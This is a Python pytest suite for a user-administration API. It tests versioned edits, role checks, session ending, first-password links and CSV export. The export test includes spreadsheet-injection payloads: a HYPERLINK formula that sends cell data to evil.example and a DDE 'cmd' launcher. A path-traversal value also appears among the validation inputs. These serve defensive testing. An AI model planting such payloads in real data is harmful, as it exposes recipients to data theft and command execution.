"""Looking after people's accounts: editing by version, taking the list away, sessions, first passwords, what happened."""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
from datetime import timedelta
from typing import Any

import pytest
from sqlalchemy import delete, select, update

from tests.conftest import PASSWORD, Api
from waypost.access.models import LoginSession, RolePermission, TotpSecret, UserRole
from waypost.access.queries import actors
from waypost.directory.models import User
from waypost.kernel import relay
from waypost.kernel.clock import now
from waypost.kernel.events import EventRow
from waypost.notifications.models import Delivery

_numbers = itertools.count(1)


async def hire(who: Any, **more: Any) -> dict[str, Any]:
    name = f"person{next(_numbers)}"
    body = {
        "username": name,
        "email": f"{name}@example.com",
        "first_name": "Pat",
        "last_name": name.capitalize(),
        "password": PASSWORD,
        **more,
    }
    return dict(await (await who("admin")).post("/users", body, expect=201))


async def events(database: Any, user_id: int, kind: str) -> list[EventRow]:
    wanted = (EventRow.object_type == "user", EventRow.object_id == user_id, EventRow.type == kind)
    async with database.read() as session:
        return list(await session.scalars(select(EventRow).where(*wanted).order_by(EventRow.id)))


async def test_a_change_is_of_the_version_one_read_and_kept_with_before_and_after(who: Any, database: Any) -> None:
    admin, person = await who("admin"), await hire(who)
    path = f"/users/{person['id']}"
    answer = await admin.get(path, expect=None)
    assert answer.headers["etag"] == f'"{person["id"]}-1"'
    changed = await admin.call("PATCH", path, {"version": 1, "job_title": "Editor", "timezone": "Europe/Berlin"})
    assert (changed["job_title"], changed["timezone"], changed["version"]) == ("Editor", "Europe/Berlin", 2)
    await admin.call("PATCH", path, {"version": 1, "job_title": "Writer"}, expect=412)
    await admin.call("PATCH", path, {"job_title": "Writer"}, expect=428)
    await admin.call("PATCH", path, {"job_title": "Writer"}, expect=412, headers={"If-Match": f'"{person["id"]}-1"'})
    same = await admin.call("PATCH", path, {"version": 2, "job_title": "Editor"})
    assert same["version"] == 2
    (kept,) = await events(database, person["id"], "user.changed")
    assert kept.data["before"] == {"job_title": "", "timezone": "UTC"}
    assert kept.data["after"] == {"job_title": "Editor", "timezone": "Europe/Berlin"}
    assert kept.actor_id == admin.id


@pytest.mark.parametrize(
    ("body", "pointer"),
    [
        ({"first_name": ""}, "/first_name"),
        ({"first_name": "\u200b"}, "/first_name"),
        ({"first_name": "x" * 10_000}, "/first_name"),
        ({"username": "a b"}, "/username"),
        ({"email": "nobody"}, "/email"),
        ({"timezone": "Mars/Olympus"}, "/timezone"),
        ({"locale": "../../etc"}, "/locale"),
        ({"department_id": 999_999}, "/department_id"),
        ({"department_id": 2**63}, "/department_id"),
        ({"manager_id": 999_999}, "/manager_id"),
        ({"is_active": False}, "/is_active"),
        ({"password": PASSWORD}, "/password"),
        ({"first_name": "a\u0000b"}, "/first_name"),
    ],
)
async def test_bad_values_are_named_and_store_nothing(who: Any, body: dict[str, Any], pointer: str) -> None:
    admin, person = await who("admin"), await hire(who)
    told = await admin.call("PATCH", f"/users/{person['id']}", {"version": 1, **body}, expect=422)
    assert told["errors"][0]["pointer"] == pointer
    assert (await admin.get(f"/users/{person['id']}"))["version"] == 1


async def test_who_may_not_changes_and_reads_nothing(who: Any) -> None:
    person = await hire(who)
    path = f"/users/{person['id']}"
    for username in ("employee", "manager", "hragent"):
        api = await who(username)
        await api.call("PATCH", path, {"version": 1, "job_title": "Boss"}, expect=403)
        for below in ("/security", "/sessions", "/history", ""):
            await api.get(path + below, expect=403)
        await api.get("/users", expect=403)
        await api.get("/users/export", expect=403)
        await api.delete(f"{path}/sessions", expect=403)
        await api.post(f"{path}/password-link", expect=403)
    auditor = await who("auditor")
    await auditor.call("PATCH", path, {"version": 1, "job_title": "Boss"}, expect=403)
    nobody = await who(None)
    await nobody.call("PATCH", path, {"version": "?"}, expect=401)
    await (await who("admin")).call("PATCH", "/users/999999", {"version": "?"}, expect=404)


async def test_nobody_becomes_their_own_manager(who: Any) -> None:
    admin = await who("admin")
    a = await hire(who)
    b = await hire(who, manager_id=a["id"])
    c = await hire(who, manager_id=b["id"])
    told = await admin.call("PATCH", f"/users/{a['id']}", {"version": 1, "manager_id": c["id"]}, expect=409)
    assert (told["code"], told["errors"][0]["pointer"]) == ("manager_circle", "/manager_id")
    await admin.call("PATCH", f"/users/{a['id']}", {"version": 1, "manager_id": a["id"]}, expect=409)
    await admin.put(f"/users/{b['id']}/active", {"is_active": False})
    await admin.call("PATCH", f"/users/{a['id']}", {"version": 1, "manager_id": c["id"]}, expect=409)


async def test_two_at_once_make_no_circle(who: Any) -> None:
    admin = await who("admin")
    for _ in range(3):
        a, b = await hire(who), await hire(who)
        answers = await asyncio.gather(
            admin.call("PATCH", f"/users/{a['id']}", {"version": 1, "manager_id": b["id"]}, expect=None),
            admin.call("PATCH", f"/users/{b['id']}", {"version": 1, "manager_id": a["id"]}, expect=None),
        )
        assert sorted(answer.status_code for answer in answers) == [200, 409]


async def test_of_two_changes_of_one_version_one_stands(who: Any) -> None:
    admin, person = await who("admin"), await hire(who)
    answers = await asyncio.gather(
        *(
            admin.call("PATCH", f"/users/{person['id']}", {"version": 1, "job_title": f"No. {n}"}, expect=None)
            for n in range(5)
        )
    )
    assert sorted(answer.status_code for answer in answers) == [200, 412, 412, 412, 412]


async def test_names_are_one_persons_whatever_their_case(who: Any) -> None:
    admin, a, b = await who("admin"), await hire(who), await hire(who)
    for body in ({"username": a["username"].upper()}, {"email": a["email"].title()}):
        told = await admin.call("PATCH", f"/users/{b['id']}", {"version": 1, **body}, expect=409)
        assert told["errors"][0]["pointer"] == f"/{next(iter(body))}"


async def test_both_addresses_are_told_of_a_new_one(who: Any, app: Any, database: Any) -> None:
    admin, person = await who("admin"), await hire(who)
    other = f"moved{person['id']}@example.com"
    await admin.call("PATCH", f"/users/{person['id']}", {"version": 1, "email": other})
    await relay.drain(database)
    async with database.read() as session:
        theirs = (Delivery.user_id == person["id"], Delivery.kind == "address.changed")
        told = list(await session.scalars(select(Delivery).where(*theirs)))
    assert {d.recipient for d in told} == {other, person["email"]}
    assert all(person["email"] in str(d.words) and other in str(d.words) for d in told)
    fresh = Api(app, other)
    await fresh.sign_in()
    assert fresh.id == person["id"]
    await fresh.http.aclose()


async def test_another_address_asks_to_confirm_first(who: Any, app: Any, database: Any) -> None:
    admin, person = await Api(app, "admin").sign_in(), await hire(who)
    async with database.transaction() as session:
        old = now() - timedelta(hours=1)
        newest = select(LoginSession.id).where(LoginSession.user_id == admin.id).order_by(LoginSession.id.desc())
        await session.execute(
            update(LoginSession).where(LoginSession.id == newest.limit(1).scalar_subquery()).values(proved_at=old)
        )
    path = f"/users/{person['id']}"
    told = await admin.call("PATCH", path, {"version": 1, "email": "x@example.com"}, expect=403)
    assert told["code"] == "step_up_needed"
    assert (await admin.call("PATCH", path, {"version": 1, "username": "xx1"}, expect=403))["code"] == "step_up_needed"
    await admin.call("PATCH", path, {"version": 1, "email": person["email"], "job_title": "Same address"})
    await admin.http.aclose()


async def test_who_may_less_takes_no_account_over(who: Any, app: Any, database: Any) -> None:
    """Somebody who only keeps the directory does not make an administrator's address theirs."""
    admin = await who("admin")
    role = f"keeper{next(_numbers)}"
    granted = {"directory:configure": "ALL", "directory:read": "ALL"}
    await admin.post("/roles", {"key": role, "name": role, "permissions": granted}, expect=201)
    made = await hire(who, roles=["employee", role])
    keeper = await Api(app, made["username"]).sign_in()
    path = f"/users/{admin.id}"
    version = (await keeper.get(path))["version"]
    told = await keeper.call("PATCH", path, {"version": version, "email": "mine@example.com"}, expect=403)
    assert told["code"] == "may_more"
    async with database.transaction() as session:
        user = User(username=f"bare{made['id']}", email=f"bare{made['id']}@example.com", first_name="B", last_name="B")
        session.add(user)
        await session.flush()
        admins = await session.scalar(select(UserRole.role_id).where(UserRole.user_id == admin.id).limit(1))
        session.add(UserRole(user_id=user.id, role_id=admins))
        wide = select(RolePermission.role_id).where(RolePermission.permission == "roles:configure")
        session.add(UserRole(user_id=user.id, role_id=(await session.scalar(wide))))
    told = await keeper.post(f"/users/{user.id}/password-link", expect=403)
    assert told["code"] == "may_more"
    async with database.transaction() as session:
        await session.execute(delete(UserRole).where(UserRole.user_id == user.id))
    await keeper.call("PATCH", f"/users/{made['id']}", {"version": 1, "email": f"own{made['id']}@example.com"})
    await keeper.http.aclose()


async def test_a_first_password_link_opens_once_and_only_without_a_password(who: Any, app: Any, database: Any) -> None:
    admin = await who("admin")
    person = await hire(who, password=None)
    path = f"/users/{person['id']}"
    first = await admin.post(f"{path}/password-link", expect=201)
    second = await admin.post(f"{path}/password-link", expect=201)
    assert (await admin.get(f"{path}/security"))["link_expires_at"] is not None
    nobody = await who(None)

    async def use(link: str, expect: int) -> None:
        body = {"token": link.partition("#")[2], "password": "correct horse battery staple"}
        await nobody.post("/auth/first-password", body, expect=expect)

    await use(first["link"], 404)
    await use(second["link"], 200)
    await use(second["link"], 404)
    assert (await admin.post(f"{path}/password-link", expect=409))["code"] == "has_password"
    assert len(await events(database, person["id"], "auth.password_link_made")) == 2
    for event in await events(database, person["id"], "auth.password_link_made"):
        assert "wpl_" not in str(event.data)


async def test_an_administrator_ends_somebodys_sessions(who: Any, app: Any, database: Any) -> None:
    admin, person = await who("admin"), await hire(who)
    one, two = [await Api(app, person["username"]).sign_in() for _ in range(2)]
    path = f"/users/{person['id']}"
    listed = (await admin.get(f"{path}/sessions"))["items"]
    assert len(listed) == 2
    await admin.delete(f"/users/{admin.id}/sessions/{listed[0]['id']}", expect=404)
    await admin.delete(f"{path}/sessions/{listed[0]['id']}")
    actors._kept.clear()
    assert len((await admin.get(f"{path}/sessions"))["items"]) == 1
    assert (await admin.delete(f"{path}/sessions", expect=200)) == {"ended": 1}
    for api in (one, two):
        await api.get("/auth/me", expect=401)
        await api.http.aclose()
    ended = await events(database, person["id"], "auth.session_ended")
    assert [(e.actor_id, e.data["reason"]) for e in ended] == [(admin.id, "ended_by_admin")] * 2


async def test_security_shows_no_secret(who: Any, app: Any, database: Any) -> None:
    admin, person = await who("admin"), await hire(who)
    api = await Api(app, person["username"]).sign_in()
    await api.post("/auth/mfa/totp/enroll")
    security = await admin.get(f"/users/{person['id']}/security")
    assert security["password_set_at"]
    assert security["signed_in_at"]
    assert security["authenticator_since"] is None, "not confirmed yet"
    assert not {"secret", "sealed", "password_hash", "handle"} & set(security)
    async with database.transaction() as session:
        await session.execute(delete(TotpSecret).where(TotpSecret.user_id == person["id"]))
    await api.http.aclose()


async def test_the_list_is_narrowed(who: Any, app: Any, database: Any) -> None:
    admin = await who("admin")
    boss = await hire(who)
    never = await hire(who, manager_id=boss["id"])
    stale = await hire(who, manager_id=boss["id"])
    seen = await hire(who, manager_id=boss["id"], roles=["employee", "agent"])
    api = await Api(app, seen["username"]).sign_in()
    async with database.transaction() as session:
        old = now() - timedelta(days=200)
        await session.execute(update(User).where(User.id == stale["id"]).values(created_at=old, signed_in_at=old))
    mine = {"manager_id": boss["id"]}

    async def found(**more: Any) -> list[int]:
        page = await admin.get("/users", params={**mine, **more})
        return [u["id"] for u in page["items"]]

    everybody = [never["id"], stale["id"], seen["id"]]
    assert sorted(await found()) == sorted(everybody)
    assert await found(look="NEVER_SIGNED_IN") == [never["id"]]
    assert await found(look="STALE") == [stale["id"]]
    assert await found(role="agent") == [seen["id"]]
    assert sorted(await found(look="NO_SECOND_FACTOR")) == sorted(everybody)
    await admin.put(f"/users/{never['id']}/active", {"is_active": False})
    assert await found(is_active="false") == [never["id"]]
    first = await admin.get("/users", params={**mine, "limit": 2})
    rest = await admin.get("/users", params={**mine, "limit": 2, "cursor": first["next_cursor"]})
    assert sorted(u["id"] for u in first["items"] + rest["items"]) == sorted(everybody)
    await admin.get("/users", params={"look": "SHORT"}, expect=422)
    await admin.get("/users", params={"role": "a\u0000b"}, expect=422)
    await api.http.aclose()


async def test_the_list_leaves_as_a_file_no_spreadsheet_executes(who: Any, database: Any) -> None:
    admin = await who("admin")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    person = await hire(who, first_name=evil[:100], job_title="@SUM(1+1)*cmd|' /C calc'!A0")
    quoted = await hire(who, last_name='"; DROP, "quoted"', manager_id=person["id"])
    answer = await admin.get("/users/export", params={"q": person["username"]}, expect=None)
    assert answer.status_code == 200
    assert answer.headers["x-export-rows"] == "1"
    assert answer.content.startswith("\ufeff".encode())
    head, row = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert head[:2] == ["Username", "E-mail"]
    assert row[2] == f"'{evil}"
    assert row[4].startswith("'@SUM")
    answer = await admin.get("/users/export", params={"q": quoted["username"]}, expect=None)
    _, row = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert row[3] == '"; DROP, "quoted"'
    assert row[6].startswith("'=")
    (kept,) = [
        e for e in await events(database, admin.id, "users.exported") if e.data["filters"]["q"] == quoted["username"]
    ]
    assert kept.data["rows"] == 1


async def test_the_list_is_a_handful_of_statements(who: Any, database: Any) -> None:
    from sqlalchemy import event

    admin = await who("admin")
    for _ in range(5):
        await hire(who)
    counts = []
    for limit in (1, 25):
        seen: list[str] = []

        def note(_c: Any, _cu: Any, statement: str, *_: Any, into: list[str] = seen) -> None:
            if "login_sessions" not in statement:  # who asks is looked up once a second
                into.append(statement)

        engine = database.read_engine.sync_engine
        event.listen(engine, "before_cursor_execute", note)
        await admin.get("/users", params={"limit": limit})
        event.remove(engine, "before_cursor_execute", note)
        counts.append(len(seen))
    assert counts[1] <= counts[0] + 2  # names that were not known yet
    assert counts[1] <= 6


async def test_history_tells_who_changed_what(who: Any) -> None:
    admin, person = await who("admin"), await hire(who)
    path = f"/users/{person['id']}"
    await admin.call("PATCH", path, {"version": 1, "last_name": "Newname"})
    page = await admin.get(f"{path}/history")
    assert [e["type"] for e in page["items"]][:1] == ["user.changed"]
    assert page["items"][0]["actor"]["username"] == "admin"
    assert page["items"][0]["data"]["after"] == {"last_name": "Newname"}
    assert {e["type"] for e in page["items"]} >= {"user.created", "role.granted", "auth.password_set"}
    first = await admin.get(f"{path}/history", params={"limit": 1})
    second = await admin.get(f"{path}/history", params={"limit": 1, "cursor": first["next_cursor"]})
    assert first["items"][0]["id"] > second["items"][0]["id"]
